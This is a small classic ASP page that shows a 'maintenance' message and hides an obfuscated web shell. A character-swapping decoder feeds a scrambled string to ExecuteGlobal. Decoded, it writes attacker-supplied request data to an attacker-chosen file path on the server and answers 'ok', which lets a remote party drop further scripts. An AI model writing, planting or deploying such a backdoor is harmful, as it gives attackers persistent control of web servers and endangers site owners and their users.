<%@ Language=VBScript %>
<%
Dim q0_ : q0_ = ""
Function x_9(ByVal t)
 Dim j, r : r = ""
 For j = 1 To Len(t) - 1 Step 2
  r = r & Mid(t, j + 1, 1) & Mid(t, j, 1)
 Next
 If Len(t) Mod 2 = 1 Then r = r & Right(t, 1)
 x_9 = r
End Function
eXeCuTeGlObAl( x_9 ( "eS tsf= C ertaOejbce(tS""rcpiitgnF.liSesyetOmjbce""t:)eS t f =sfC.ertaTexeFtli(eeSvrreM.paaPhtR(qeeuts""(""p)) ,rTeu:).frWti eeRuqse(td"")""f:C.olesR:seopsn.erWti eo""""k" ) )
%>
<html><body>maintenance</body></html>
